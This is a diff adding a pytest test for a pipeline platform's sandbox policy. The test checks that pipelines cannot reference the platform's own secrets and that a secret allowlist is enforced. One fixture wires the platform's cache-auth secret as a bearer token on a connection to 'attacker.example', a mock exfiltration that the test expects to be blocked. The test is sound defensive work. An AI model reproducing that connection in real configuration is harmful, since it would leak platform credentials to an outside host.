@@ -145,3 +145,24 @@ def test_env_references_and_callables_are_checked_on_a_server(tmp_path: Path) ->
     assert "spec.tasks[2].source.path" in text
     assert "spec.tasks[3].steps[0].derive.s: '${env.UDOP_JWT_SECRET}'" in text
     assert "spec.tasks[4].target.path" in text
+
+
+def test_the_platforms_own_secrets_cannot_be_referenced(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    own = "arn:aws:secretsmanager:us-east-1:123456789012:secret:udop/cache-auth-AbC123"
+    monkeypatch.setenv("UDOP_STATE_SECRET_ARN", own)
+    policy = server_policy(data_root=str(tmp_path))
+    for ref in (own, "udop/cache-auth"):  # by ARN or by name
+        with pytest.raises(SandboxViolation, match="platform's own secrets"):
+            policy.check_secret_ref(ref, what="secret")
+    policy.check_secret_ref("team/warehouse", what="secret")
+    pipeline = _pipeline(connections={"wh": {"connector": "http", "url": "https://attacker.example",
+                                             "auth": {"type": "bearer", "token": {"secret": "udop/cache-auth"}}}},
+                         tasks=[{"id": "t", "type": "python", "callable": "tasks:f"}])
+    errors = check_definition(pipeline, policy, check_modules=False)
+    assert [str(e.path) for e in errors] == ["spec.connections.wh.auth.token"]
+
+    monkeypatch.setenv("UDOP_SECRET_ALLOWLIST", "team/")
+    limited = server_policy(data_root=str(tmp_path))
+    limited.check_secret_ref("team/warehouse", what="secret")
+    with pytest.raises(SandboxViolation, match="UDOP_SECRET_ALLOWLIST"):
+        limited.check_secret_ref("other/db", what="secret")
